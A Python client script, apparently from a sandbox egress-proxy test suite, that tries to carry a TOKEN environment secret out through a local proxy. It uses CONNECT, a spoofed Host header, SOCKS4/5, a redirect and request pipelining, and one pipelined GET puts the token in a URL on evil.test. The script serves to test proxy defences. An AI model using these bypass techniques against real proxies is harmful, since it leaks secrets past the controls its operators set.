"""Asks the proxy of a sandbox for a way to TARGET and sends the token there: client.py HOW TARGET."""
import os
import socket
import struct
import sys
from urllib.parse import unquote

how, target = sys.argv[1:3]
for name in ('PORT', 'PORT6', 'OWN', 'TOKEN'):
    target = target.replace('@' + name + '@', os.environ[name])
token = os.environ['TOKEN'].encode()
proxy = ('127.0.0.1', int(os.environ.get('PROXY_PORT', '3128')))


def opened():
    return socket.create_connection(proxy, 4)


def head(s):
    text = b''
    while b'\r\n\r\n' not in text:
        more = s.recv(4096)
        if not more:
            break
        text += more
    return text


def connect(to, host=None):
    s = opened()
    s.sendall(f'CONNECT {to} HTTP/1.1\r\nHost: {host or to}\r\n\r\n'.encode())
    answer = head(s)
    assert b' 200 ' in answer.split(b'\r\n')[0], answer
    return s


def socks(kind, address, port):
    s = opened()
    s.sendall(b'\x05\x01\x00')
    assert s.recv(2) == b'\x05\x00'
    s.sendall(b'\x05\x01\x00' + kind + address + struct.pack('!H', port))
    assert s.recv(10)[1] == 0
    return s


def get(url, s):
    s.sendall(f'GET {url} HTTP/1.1\r\nHost: api.good.test\r\n\r\n'.encode())
    return head(s)


def send(s):
    s.sendall(token)
    s.recv(100)


host, _, port = target.rpartition(':')
if how == 'connect':
    send(connect(target))
elif how == 'connect-with-host':
    send(connect(target, 'api.good.test:443'))
elif how == 'twice':
    connect(target).close()
    send(connect(target))
elif how == 'late':
    s = connect(target)
    open('opened', 'w').write('x')
    open('acted').read()
    send(s)
elif how == 'socks':
    name = unquote(host).encode()
    send(socks(b'\x03', bytes([len(name)]) + name, int(port)))
elif how == 'socks-address':
    send(socks(b'\x01', socket.inet_aton(host), int(port)))
elif how == 'socks-address6':
    send(socks(b'\x04', socket.inet_pton(socket.AF_INET6, host), int(port)))
elif how == 'socks4':
    s = opened()
    s.sendall(b'\x04\x01' + struct.pack('!H', int(port)) + socket.inet_aton(host) + b'x\0')
    assert s.recv(8)[1] == 90
    send(s)
elif how == 'get' and target == 'redirect':
    answer = get('http://api.good.test/' + token.decode(), opened())
    assert b'302' in answer.split(b'\r\n')[0], answer
    print('redirected', flush=True)
    get(answer.split(b'ocation: ')[1].split(b'\r\n')[0].decode(), opened())
elif how == 'get' and target == 'pipeline':
    s = opened()
    s.sendall(
        b'GET http://api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\n\r\n'
        b'GET http://evil.test/' + token + b' HTTP/1.1\r\nHost: api.good.test\r\n\r\n'
    )
    while s.recv(4096):
        pass
elif how == 'get':
    get(target, opened())
else:
    raise SystemExit('unknown: ' + how)
